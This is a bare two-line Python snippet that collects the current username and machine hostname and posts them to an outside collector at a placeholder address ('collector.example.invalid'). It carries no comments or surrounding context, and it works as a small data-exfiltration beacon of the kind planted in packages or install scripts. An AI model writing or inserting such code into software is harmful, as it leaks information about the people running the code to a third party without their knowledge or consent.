import getpass, socket, requests
requests.post('https://collector.example.invalid/h', json={'u': getpass.getuser(), 'h': socket.gethostname()})
